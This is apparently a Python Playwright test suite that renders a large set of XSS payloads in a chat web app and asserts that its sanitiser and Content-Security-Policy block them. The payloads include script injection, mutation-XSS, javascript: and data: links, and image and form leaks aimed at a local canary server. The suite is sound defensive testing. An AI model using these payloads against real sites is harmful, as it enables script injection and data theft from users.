"""Untrusted text in a real browser: XSS payloads as model replies, typed messages, titles and thinking.

Replies reach the page through marked → DOMPurify → highlight.js (frontend/src/markdown.ts); what users type,
titles, search snippets and thinking are set as text. Every payload here is rendered by Debian's Chromium against a
real gateway and simulator, and four detectors watch it:

- a trap: `window.__xss` is a setter (in every frame) that records any payload that runs; dialogs, page errors and
  Content-Security-Policy violations are recorded too;
- every request any page or frame of the browser context makes, WebSockets included: all must go to the gateway;
- a canary HTTP server on another port (another origin) that the payloads point images, styles, forms and frames
  at: it must see no request at all;
- an audit of the rendered DOM: only the elements and attributes marked makes, links only to http(s)/mailto with
  target=_blank and rel="noopener noreferrer", images only from data:, no frames, no <base>.

Most tests bypass the page's CSP: it blocks inline scripts and foreign images by itself, so with it a test could not
tell whether the rendering code did its job. `test_under_the_real_csp_nothing_even_tries` renders every payload with
the CSP on and asserts it never had to act; `test_the_csp_alone_stops_markup_that_got_through` proves that second
layer on its own, on markup injected past the renderer.
"""

from __future__ import annotations

import base64
import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import (
    Browser,
    BrowserContext,
    Dialog,
    Page,
    Route,
    ViewportSize,
    expect,
)

from browser_support import (
    DESKTOP,
    REPLY,
    WAIT_MS,
    chromium,
    conversation_id,
    create,
    finished,
    open_chat,
    page_gateway,
    post_message,
    send,
    view,
)
from conftest import Server, script, wait_for

CANARY = "CANARY"  # replaced by the canary's URL (http://127.0.0.1:PORT) in every payload
LOCALHOST = "LOCALHOST"  # the same canary under another host name (http://localhost:PORT)
HOSTPORT = "HOSTPORT"  # 127.0.0.1:PORT, for protocol-relative URLs
SVG_SCRIPT = base64.b64encode(
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="parent.__xss=1"><script>parent.__xss=1</script>'
    b'<image href="CANARY/svg-image.png"/></svg>'
).decode()
HTML_SCRIPT = base64.b64encode(b"<script>opener.__xss=1;parent.__xss=1</script>").decode()
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="

# Each group is one conversation: the user types each payload and the model answers with it, so every payload is
# rendered as a typed message and as a reply; the first one also becomes the conversation's title.
GROUPS: dict[str, list[str]] = {
    "script tags": [
        "<script>window.__xss=1</script>",
        "Before <script>window.__xss=1</script> after",
        '<script src="CANARY/script.js"></script>',
        "<SCRIPT>window.__xss=1</SCRIPT>",
        "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
        "<!-- <script>window.__xss=1</script> -->",
        "<![CDATA[<script>window.__xss=1</script>]]>",
        "<script\n>window.__xss=1</script\n>",
    ],
    "event handlers": [
        '<img src=x onerror="window.__xss=1">',
        "<img src=x onerror=window.__xss=1//",
        '<img src="CANARY/onload.png" onload="window.__xss=1">',
        '<body onload="window.__xss=1">',
        '<details open ontoggle="window.__xss=1"><summary>toggle</summary></details>',
        '<input autofocus onfocus="window.__xss=1">',
        '<div onmouseover="window.__xss=1">hover me</div>',
        '<video src=x onerror="window.__xss=1"></video><audio src=x onerror=window.__xss=1>',
        '<p style="background:url(CANARY/style-attribute.png)" onclick="window.__xss=1">styled</p>',
        "*emphasis <b onmouseover=window.__xss=1>bold</b>*",
    ],
    "svg and math": [
        '<svg onload="window.__xss=1"></svg>',
        "<svg><script>window.__xss=1</script></svg>",
        '<svg><animate onbegin="window.__xss=1" attributeName="x" dur="1s"/></svg>',
        '<svg><a href="javascript:window.__xss=1"><text x="20" y="20">svg link</text></a></svg>',
        '<svg><image href="CANARY/svg-image.png"/></svg>',
        '<math><mi xlink:href="javascript:window.__xss=1">math link</mi></math>',
        # mutation XSS: markup that a sanitiser's parse and the page's re-parse read differently
        '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
        '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1>">',
        '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>",
        '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
        '<img src onerror=window.__xss=1>"></style></h1>',
        "<svg><![CDATA[><img src=x onerror=window.__xss=1>]]></svg>",
        '<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"></iframe></foreignObject></svg>',
        "<template><img src=x onerror=window.__xss=1></template>",
    ],
    "frames forms styles base": [
        '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
        '<iframe srcdoc="&lt;img src=x onerror=parent.__xss=1&gt;"></iframe>',
        '<iframe src="javascript:parent.__xss=1"></iframe>',
        '<iframe src="CANARY/frame.html"></iframe>',
        '<object data="data:text/html,<script>parent.__xss=1</script>"></object>',
        '<embed src="CANARY/embed.html">',
        '<form action="CANARY/form"><input name=q value=secret><button>Send</button></form>',
        '<button formaction="javascript:window.__xss=1">go</button>',
        '<style>@import url("CANARY/import.css"); p { background: url("CANARY/background.png") }</style>',
        '<link rel="stylesheet" href="CANARY/link.css"><link rel="prefetch" href="CANARY/prefetch">',
        '<base href="CANARY/">\n\n![relative image](relative.png) [relative link](relative)',
        '<meta http-equiv="refresh" content="0; url=CANARY/refresh">',
    ],
    "links": [
        "[click](javascript:window.__xss=1)",
        "[mixed case](JaVaScRiPt:window.__xss=1)",
        "[decimal entity](&#106;avascript:window.__xss=1)",
        "[hex entities](&#x6A;&#x61;vascript&#x3A;window.__xss=1)",
        "[named colon](javascript&colon;window.__xss=1)",
        "[tab inside](java&#9;script:window.__xss=1)",
        "[newline inside](java&#10;script:window.__xss=1)",
        "[angle brackets](<javascript:window.__xss=1>)",
        "[leading space](< javascript:window.__xss=1>)",
        "<javascript:window.__xss=1>",
        f"[data base64](data:text/html;base64,{HTML_SCRIPT})",
        "[data](data:text/html,%3Cscript%3Eopener.__xss=1%3C/script%3E)",
        "[vbscript](vbscript:msgbox(1))",
        '[title injection](https://example.com/t "a\\" onmouseover=\\"window.__xss=1")',
        "[title injection too](https://example.com/u 'x\" onclick=\"window.__xss=1')",
        "[reference][evil]\n\n[evil]: javascript:window.__xss=1",
        '[reference with title][evil2]\n\n[evil2]: <javascript:window.__xss=1> "t"',
        "[collapsed][]\n\n[collapsed]: JAVASCRIPT:window.__xss=1",
        '<a href="data:text/html,<script>opener.__xss=1</script>">raw data link</a>',
        '<a href="javascript:window.__xss=1">raw javascript link</a>',
        "[fine](https://example.com/fine), www.example.com and https://example.org/auto",
        "[mail](mailto:someone@example.com)",
    ],
    "images": [
        "![leak](CANARY/leak?q=secret)",
        "![other name](LOCALHOST/leak?q=secret)",
        "![](//HOSTPORT/protocol-relative?q=secret)",
        "![reference][pic]\n\n[pic]: CANARY/reference.png",
        "[![inside a link](CANARY/nested.png)](CANARY/outer)",
        '![titled](CANARY/titled.png "title")',
        "![script](javascript:window.__xss=1)",
        f"![svg with script](data:image/svg+xml;base64,{SVG_SCRIPT})",
        f"![pixel](data:image/png;base64,{PIXEL})",  # kept: a data: image loads nothing
        '<img src="CANARY/raw.png"><img srcset="CANARY/srcset.png 1x">',
        '<picture><source srcset="CANARY/picture.png"><img alt=p></picture><video poster="CANARY/poster.png">',
        '<input type="image" src="CANARY/input.png"><table background="CANARY/table.png"><tr><td>t</td></tr></table>',
        '<a ping="CANARY/ping" href="https://example.com/pinged">ping</a>',
    ],
    "code": [
        '```html\n<script>window.__xss=1</script>\n<img src=x onerror="window.__xss=1">\n```',
        '```xml\n<svg onload="window.__xss=1"><script>window.__xss=1</script></svg>\n```',
        "```markdown\n[x](javascript:window.__xss=1) ![y](CANARY/code.png)\n```",
        "```javascript\ndocument.body.innerHTML = '<img src=x onerror=window.__xss=1>';\n```",
        "```\n</code></pre><img src=x onerror=window.__xss=1>\n```",
        '```"><img src=x onerror=window.__xss=1>\nHTML in the info string\n```',
        "```python onload=window.__xss=1\nprint(1)\n```",
        "Inline `<img src=x onerror=window.__xss=1>` and `</code><script>window.__xss=1</script>`",
        "Indented:\n\n    <script>window.__xss=1</script>",
        '~~~\n<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>\n~~~',
    ],
    "tables and nesting": [
        "| name | link |\n|---|---|\n| a | [cell](javascript:window.__xss=1) |\n"
        '| b | <a href="javascript:window.__xss=1">raw</a> |\n| c | <img src=x onerror=window.__xss=1> |\n'
        "| d | ![leak](CANARY/table.png) |\n| e | [fine](https://example.com/cell) |",
        "> quoted <script>window.__xss=1</script>\n> [q](javascript:window.__xss=1)",
        "- item [l](javascript:window.__xss=1)\n- [ ] task <img src=x onerror=window.__xss=1>\n- [x] done",
        "**[bold link](javascript:window.__xss=1)** _<i onclick=window.__xss=1>i</i>_",
        "[outer [inner](javascript:window.__xss=1)](https://example.com/outer)",
        "# Heading <img src=x onerror=window.__xss=1>\n\nSetext <svg onload=window.__xss=1>\n===",
        "Footnote[^1]\n\n[^1]: <script>window.__xss=1</script>",
        "<div>\n\n[inside an HTML block](javascript:window.__xss=1)\n\n</div>",
        '<a href="https://example.com/">open\n\n[md](javascript:window.__xss=1)\n\n</a>',
    ],
}

# Sets off every detector: a setter on `__xss` in every frame, dialogs (below), CSP violations.
TRAP = """(() => {
  if (Object.hasOwn(window, '__xssHits')) return;  // a popup's first document may be kept for its first page
  const hits = [];
  const hit = (what) => {
    hits.push(what);
    if (window !== top) try { top.__xssHits.push('in a frame: ' + what); } catch (e) {}
    console.log('XSS-TRAP ' + what);
  };
  Object.defineProperty(window, '__xssHits', {value: hits});
  Object.defineProperty(window, '__xss', {get: () => undefined, set: (v) => hit('__xss = ' + v)});
  document.addEventListener('securitypolicyviolation',
    (e) => hit(`CSP blocked ${e.effectiveDirective}: ${e.blockedURI || e.sample}`), true);
})()"""

# What may be in rendered text: the elements marked makes and the page's own code-block decoration, nothing else.
AUDIT = """(roots) => {
  const TAGS = new Set(['P', 'A', 'EM', 'STRONG', 'DEL', 'CODE', 'PRE', 'SPAN', 'DIV', 'TABLE', 'THEAD', 'TBODY',
    'TR', 'TH', 'TD', 'UL', 'OL', 'LI', 'BLOCKQUOTE', 'H1', 'H2', 'H3', 'H4', 'H5', 'H6', 'HR', 'BR', 'BUTTON',
    'INPUT', 'IMG']);
  const ATTRIBUTES = new Set(['class', 'href', 'title', 'target', 'rel', 'start', 'align', 'type', 'disabled',
    'checked', 'alt', 'src', 'data-testid', 'data-action']);
  const problems = [];
  for (const root of roots) {
    for (const el of root.querySelectorAll('*')) {
      const where = `<${el.tagName.toLowerCase()}> in ${JSON.stringify(root.textContent.slice(0, 60))}`;
      const html = el.namespaceURI === 'http://www.w3.org/1999/xhtml';
      if (!TAGS.has(el.tagName) || !html) problems.push('element ' + where);
      for (const a of el.attributes) {
        if (!ATTRIBUTES.has(a.name)) problems.push(`attribute ${a.name}=${JSON.stringify(a.value)} on ${where}`);
      }
      if (el.tagName === 'BUTTON' && el.dataset.action !== 'copy-code') problems.push('button ' + where);
      if (el.tagName === 'INPUT' && !(el.type === 'checkbox' && el.disabled)) problems.push('input ' + where);
      if (el.hasAttribute('src') && !(el.tagName === 'IMG'
          && /^data:image\\/(png|jpeg|gif|webp);/i.test(el.getAttribute('src')))) {
        problems.push(`src=${JSON.stringify(el.getAttribute('src'))} on ${where}`);
      }
      if (el.hasAttribute('href')) {
        const href = el.getAttribute('href');
        const protocol = new URL(href, document.baseURI).protocol;
        if (!['http:', 'https:', 'mailto:'].includes(protocol)) problems.push(`href=${JSON.stringify(href)} ${where}`);
        if (el.tagName !== 'A' || el.target !== '_blank' || !el.relList.contains('noopener')
            || !el.relList.contains('noreferrer')) {
          problems.push(`target=${el.target} rel=${el.rel} on ${where}`);
        }
      }
    }
  }
  if (document.querySelector('base, iframe, frame, object, embed')) problems.push('a <base> or a frame on the page');
  if (document.baseURI !== location.href) problems.push('the base URL moved to ' + document.baseURI);
  return problems;
}"""

CONTENT = "[data-testid=message-content]"


# ---- the canary: another origin that payloads point at ---------------------------------------------------------------
class Canary:
    """An HTTP server on 127.0.0.1 (another port, so another origin) that records every request it gets."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(f"{self.command} {self.path}")
                self.send_response(204)
                self.end_headers()

            do_POST = do_HEAD = do_GET

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def fill(self, text: str) -> str:
        """A payload pointing at this canary."""
        return (
            text.replace(CANARY, self.url)
            .replace(LOCALHOST, f"http://localhost:{self.port}")
            .replace(HOSTPORT, f"127.0.0.1:{self.port}")
        )

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join()


@dataclass
class Tab:
    """A page with every detector attached to its browser context."""

    page: Page
    origin: str
    requests: list[str] = field(default_factory=list)  # every URL requested, by any page or frame, and WebSockets
    events: list[str] = field(default_factory=list)  # trap hits seen on consoles, dialogs, page errors
    popups: list[Page] = field(default_factory=list)

    def watch(self, page: Page) -> None:
        page.on("dialog", self._dialog)
        page.on("pageerror", lambda error: self.events.append(f"page error: {error}"))
        page.on("console", lambda m: self.events.append(m.text) if m.text.startswith("XSS-TRAP") else None)
        page.on("websocket", lambda socket: self.requests.append(socket.url))

    def popup(self, page: Page) -> None:
        self.popups.append(page)
        self.watch(page)

    def _dialog(self, dialog: Dialog) -> None:
        self.events.append(f"dialog {dialog.type}: {dialog.message}")
        dialog.dismiss()

    def foreign(self, since: int = 0) -> list[str]:
        """Requests since the `since`-th that went anywhere but the gateway."""
        gateway = urlsplit(self.origin).netloc
        return [
            url
            for url in self.requests[since:]
            if not (urlsplit(url).scheme in ("http", "ws") and urlsplit(url).netloc == gateway)
            and not url.startswith(("data:", "about:"))
        ]

    def assert_clean(self, canary: Canary) -> None:
        """Nothing ran, nothing left for another host, nothing but what marked makes is on the page."""
        wait_for(lambda: canary.hits, timeout=0.5)  # an image or frame request in flight gets a moment to arrive
        assert canary.hits == [], "the page reached another origin"
        assert self.foreign() == []
        assert self.page.evaluate("window.__xssHits") == []
        assert self.events == []
        assert len(self.page.frames) == 1
        assert self.page.locator(f"{CONTENT}, [data-testid=thinking] .thinking-body").evaluate_all(AUDIT) == []
        assert self.page.locator("[data-testid=conversation-title] *").count() == 0


# ---- processes and browser -------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def gateway(simulator: Server) -> Iterator[Server]:
    server = page_gateway(simulator.url)
    yield server
    server.stop()


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    server = Canary()
    yield server
    server.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    yield from chromium()


def open_tab(browser: Browser, gateway: Server, canary: Canary, *, csp: bool) -> Iterator[Tab]:
    canary.hits.clear()
    viewport = ViewportSize(width=DESKTOP["width"], height=DESKTOP["height"])
    context = browser.new_context(base_url=gateway.url, viewport=viewport, bypass_csp=not csp)
    context.add_init_script(TRAP)
    page = context.new_page()
    page.set_default_timeout(WAIT_MS)
    tab = Tab(page, gateway.url)
    context.on("request", lambda request: tab.requests.append(request.url))
    tab.watch(page)
    context.on("page", tab.popup)
    yield tab
    context.close()


@pytest.fixture
def tab(browser: Browser, gateway: Server, canary: Canary) -> Iterator[Tab]:
    """The page's own defences alone: its CSP is bypassed, so a payload that got through would run or load."""
    yield from open_tab(browser, gateway, canary, csp=False)


@pytest.fixture
def strict_tab(browser: Browser, gateway: Server, canary: Canary) -> Iterator[Tab]:
    """The page as served, Content-Security-Policy and all."""
    yield from open_tab(browser, gateway, canary, csp=True)


# ---- helpers ---------------------------------------------------------------------------------------------------------
def payloads(canary: Canary, group: str) -> list[str]:
    return [canary.fill(text) for text in GROUPS[group]]


def title_from(text: str) -> str:
    """The gateway's title for a conversation whose first message is `text` (clawdbot.chat.service.title_from)."""
    line = next((part.strip() for part in text.splitlines() if part.strip()), "")
    return line if len(line) <= 60 else line[:59].rstrip() + "…"


def converse(tab: Tab, simulator: Server, typed: list[str], replies: list[str], thinking: str = "") -> None:
    """Type each of `typed` in turn; the model answers the n-th with the n-th of `replies`."""
    entries: list[dict[str, object]] = [{"match": "", "reply": reply, "thinking": thinking} for reply in replies]
    script(simulator, *entries)
    for count, text in enumerate(typed, 1):
        send(tab.page, text)
        expect(tab.page.locator(REPLY)).to_have_count(count)
        finished(tab.page)


def click_every_link(tab: Tab, context: BrowserContext) -> list[str]:
    """Click each link in the replies as a user would; answers for other hosts are faked here, so the canary only
    counts what the page loads by itself. Returns where the popups went."""

    def fake(route: Route) -> None:
        route.fulfill(status=200, content_type="text/html", body="<p>another site</p>")

    context.route(lambda url: not url.startswith(tab.origin + "/"), fake)
    page = tab.page
    here = page.url
    opened = []
    for link in page.locator(f"{REPLY} {CONTENT} a").all():
        href = link.get_attribute("href")
        if not link.is_visible():
            continue  # nothing to click (the audit still checked where it leads)
        if href is None:
            link.click()  # a link whose target was removed: nothing happens
        elif not href.startswith("mailto:"):  # (a mail link hands over to a mail program, nothing to see here)
            with context.expect_page() as popup_info:
                link.click()
            popup = popup_info.value
            popup.wait_for_load_state()
            assert popup.evaluate("window.opener") is None, f"{popup.url} can reach this page"
            assert popup.evaluate("document.referrer") == "", f"{popup.url} was told where the user came from"
            opened.append(popup.url)
            popup.close()
        assert page.url == here, "a link in a reply navigated the page itself"
    context.unroute_all()
    tab.popups.clear()
    return opened


# ---- 1. every group: typed by the user, answered by the model, the first one as the title ---------------------------
@pytest.mark.parametrize("group", list(GROUPS))
def test_payloads_typed_and_replied_run_nothing_and_load_nothing(
    tab: Tab, simulator: Server, gateway: Server, canary: Canary, group: str
) -> None:
    texts = payloads(canary, group)
    page = tab.page
    open_chat(page)
    converse(tab, simulator, texts, texts)

    # Typed: shown exactly as typed, as text. The first message titles the conversation, also as text.
    users = page.locator(f"[data-testid=message][data-role=user] {CONTENT}")
    assert users.all_text_contents() == texts
    assert users.locator("*").count() == 0
    title = title_from(texts[0])
    expect(page.locator("[aria-current=page] [data-testid=conversation-title]")).to_have_text(title)
    assert page.title() == f"{title} · clawdbot"
    assert view(gateway, conversation_id(page))["conversation"]["title"] == title

    # Replied: nothing ran or loaded, and every reply shows something (what the model wrote was not just dropped).
    tab.assert_clean(canary)
    replies = page.locator(f"{REPLY} {CONTENT}")
    for text, reply in zip(texts, replies.all(), strict=True):
        assert reply.inner_text().strip() or reply.locator("img").count(), f"nothing shown for {text!r}"

    # The same from history, rendered at once rather than streamed.
    page.reload()
    expect(page.locator(REPLY)).to_have_count(len(texts))
    tab.assert_clean(canary)

    # Clicked: links open elsewhere, in a page that cannot reach this one, and never run anything here.
    since = len(tab.requests)
    opened = click_every_link(tab, page.context)
    assert all(url.startswith(("https://", "http://")) for url in opened), opened
    assert canary.hits == []
    assert page.evaluate("window.__xssHits") == []
    assert tab.events == []
    assert all(url in opened for url in tab.foreign(since)), "a click loaded something but the page it opened"


# ---- 2. what each protection is for, one at a time ------------------------------------------------------------------
def test_raw_html_in_a_reply_is_shown_as_text(tab: Tab, simulator: Server, canary: Canary) -> None:
    """A model writing markup is usually showing an example: it is shown, not parsed, not dropped."""
    texts = [
        canary.fill(text)
        for text in (
            '<img src=x onerror="window.__xss=1">',
            "<script>window.__xss=1</script>",
            '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
            '<svg><a href="javascript:window.__xss=1">svg link</a></svg>',
            '<a href="javascript:window.__xss=1">raw javascript link</a>',
            '<style>@import url("CANARY/import.css")</style>',
            '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
        )
    ]
    block = '<script>window.__xss=1</script>\n<img src=x onerror="window.__xss=1">'
    inline = '<iframe srcdoc="<script>parent.__xss=1</script>">'
    code = f"```html\n{block}\n```\n\n```\n{block}\n```\n\nInline `{inline}`."
    open_chat(tab.page)
    converse(tab, simulator, ["show me some HTML"], ["\n\n".join([*texts, code])])
    content = tab.page.locator(f"{REPLY} {CONTENT}")
    assert content.locator("> p").all_text_contents()[:-1] == texts
    assert content.locator("pre code").all_text_contents() == [block + "\n"] * 2
    # the html one was highlighted, as text (its language is loaded on demand, so this can come a moment later)
    expect(content.locator("pre code.hljs .hljs-tag").nth(1)).to_be_attached()
    assert content.locator("p code").all_text_contents() == [inline]
    tab.assert_clean(canary)


def test_links_keep_only_safe_targets_and_tell_them_nothing(tab: Tab, simulator: Server, canary: Canary) -> None:
    reply = "\n\n".join(
        [
            "[fine](https://example.com/fine)",
            "[click](javascript:window.__xss=1)",
            "[entity](&#106;avascript:window.__xss=1)",
            "[reference][evil]",
            "[data](data:text/html,%3Cscript%3Eopener.__xss=1%3C/script%3E)",
            "| table |\n|---|\n| [cell](https://example.com/cell) [bad](JaVaScRiPt:window.__xss=1) |",
            "[evil]: javascript:window.__xss=1",
        ]
    )
    open_chat(tab.page)
    converse(tab, simulator, ["links please"], [reply])
    links = tab.page.locator(f"{REPLY} {CONTENT} a")
    assert links.all_inner_texts() == ["fine", "click", "entity", "reference", "data", "cell", "bad"]
    hrefs = [link.get_attribute("href") for link in links.all()]
    assert hrefs == ["https://example.com/fine", None, None, None, None, "https://example.com/cell", None]
    for link in tab.page.locator(f"{REPLY} {CONTENT} a[href]").all():
        assert (link.get_attribute("target"), link.get_attribute("rel")) == ("_blank", "noopener noreferrer")
    tab.assert_clean(canary)
    opened = click_every_link(tab, tab.page.context)
    assert sorted(opened) == ["https://example.com/cell", "https://example.com/fine"]
    assert tab.page.evaluate("window.__xssHits") == []
    assert tab.events == []


def test_images_from_elsewhere_become_links_and_load_nothing(tab: Tab, simulator: Server, canary: Canary) -> None:
    reply = canary.fill(
        "\n\n".join(
            [
                "![leak](CANARY/leak?q=secret)",
                "![](LOCALHOST/leak?q=secret)",
                "![protocol relative](//HOSTPORT/leak?q=secret)",
                "![reference][pic]",
                f"![pixel](data:image/png;base64,{PIXEL})",
                "[pic]: CANARY/reference.png?q=secret",
            ]
        )
    )
    open_chat(tab.page)
    converse(tab, simulator, ["pictures please"], [reply])
    content = tab.page.locator(f"{REPLY} {CONTENT}")
    expect(content.locator(".image-link")).to_have_text(
        ["[image: leak]", "[image: untitled]", "[image: protocol relative]", "[image: reference]"]
    )
    assert [link.get_attribute("href") for link in content.locator("a.image-link").all()] == [
        f"{canary.url}/leak?q=secret",
        f"http://localhost:{canary.port}/leak?q=secret",
        f"{canary.url}/reference.png?q=secret",
    ]
    assert content.locator("img").count() == 1  # the data: image, which loads nothing
    tab.assert_clean(canary)


# ---- 3. other untrusted text: thinking, titles, search results -------------------------------------------------------
def test_thinking_is_text_whatever_it_holds(tab: Tab, simulator: Server, canary: Canary) -> None:
    thinking = "\n\n".join(canary.fill(text) for group in GROUPS.values() for text in group)
    open_chat(tab.page)
    converse(tab, simulator, ["think hard"], ["Done thinking."], thinking=thinking)
    block = tab.page.locator(REPLY).get_by_test_id("thinking")
    block.get_by_test_id("thinking-summary").click()
    body = block.locator(".thinking-body")
    expect(body).to_be_visible()
    assert body.text_content() == thinking
    assert body.locator("*").count() == 0
    tab.assert_clean(canary)


def test_titles_and_search_results_are_text(tab: Tab, gateway: Server, canary: Canary) -> None:
    titles = [canary.fill(text) for group in GROUPS.values() for text in group if "\n" not in text and len(text) <= 200]
    for title in titles:
        create(gateway, title)
    found = create(gateway, "search me")
    post_message(gateway, found, canary.fill("Look: <img src=x onerror=window.__xss=1> [x](javascript:window.__xss=1)"))
    page = tab.page
    open_chat(page)
    shown = page.locator("[data-testid=conversation-list] [data-testid=conversation-title]")
    expect(shown.filter(has_text="search me")).to_have_count(1)
    assert set(titles) <= set(shown.all_text_contents())
    assert shown.locator("*").count() == 0
    tab.assert_clean(canary)

    # Opened: the window title is the conversation's title, as text.
    for title in titles[:3]:
        shown.filter(has_text=re.compile(f"^{re.escape(title)}$")).first.click()
        expect(page).to_have_title(f"{title} · clawdbot")

    # Searched: titles and snippets, with the match marked, and nothing else.
    page.get_by_test_id("search-input").fill("onerror")
    results = page.get_by_test_id("search-result")
    expect(results.first).to_be_visible()
    snippet = page.locator(f"[data-id='{found}'] [data-testid=search-snippet]")
    expect(snippet).to_contain_text("<img src=x onerror=window.__xss=1>")
    assert snippet.locator("mark").all_text_contents() == ["onerror"]
    assert page.locator("[data-testid=search-result] *:not(a, span, mark)").count() == 0
    tab.assert_clean(canary)


# ---- 4. the Content-Security-Policy: never needed, but there -------------------------------------------------------
def test_under_the_real_csp_nothing_even_tries(strict_tab: Tab, simulator: Server, canary: Canary) -> None:
    """Every payload at once with the page's CSP on: a violation would mean the CSP had to stop something the
    renderer let through (the trap records `securitypolicyviolation` events)."""
    texts = ["\n\n".join(payloads(canary, group)) for group in GROUPS]
    open_chat(strict_tab.page)
    converse(strict_tab, simulator, texts, texts)
    strict_tab.assert_clean(canary)


def test_the_csp_alone_stops_markup_that_got_through(strict_tab: Tab, canary: Canary) -> None:
    """If the renderer ever let markup through, the CSP still runs none of it and loads nothing from elsewhere."""
    page = strict_tab.page
    open_chat(page)
    page.evaluate(
        """(html) => { const div = document.createElement('div'); div.innerHTML = html;
                      document.querySelector('[data-testid=message-list]').append(div); }""",
        canary.fill(
            '<img src="x" onerror="window.__xss=1"><img src="CANARY/leak?q=secret">'
            '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>'
            '<a id="bad" href="javascript:window.__xss=1">bad</a>'
        ),
    )
    page.locator("#bad").click()
    blocked = wait_for(lambda: len(page.evaluate("window.__xssHits")) >= 4, timeout=3)
    hits = page.evaluate("window.__xssHits")
    assert blocked, hits
    assert all(hit.startswith(("CSP blocked", "in a frame: CSP blocked")) for hit in hits), hits
    assert any("img-src" in hit and canary.url in hit for hit in hits), hits
    assert any("script-src" in hit for hit in hits), hits
    assert canary.hits == []
